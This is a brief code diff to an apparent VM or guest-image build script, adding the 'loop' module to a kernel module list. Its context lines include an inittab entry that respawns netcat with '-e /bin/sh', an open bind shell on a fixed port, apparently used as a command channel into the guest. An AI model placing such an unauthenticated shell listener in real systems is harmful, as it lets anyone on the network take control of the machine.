@@ -23,7 +23,7 @@ ORDERS = 10
 # Loaded by the first process or, as on any host, by the kernel when first used.
 MODULES = (
     "virtio_pci virtio_blk virtio_net virtio-rng overlay veth bridge br_netfilter nf_tables nft_chain_nat nft_nat nft_masq "
-    "nft_redir nft_ct nft_fib_inet nft_reject_inet nft_hash nft_numgen nf_conntrack_netlink nfnetlink sch_ingress cls_bpf"
+    "nft_redir nft_ct nft_fib_inet nft_reject_inet nft_hash nft_numgen nf_conntrack_netlink nfnetlink sch_ingress cls_bpf loop"
 ).split()
 INITTAB = f"""::sysinit:/bin/true
 ::respawn:/bin/nc -ll -p {ORDERS} -e /bin/sh
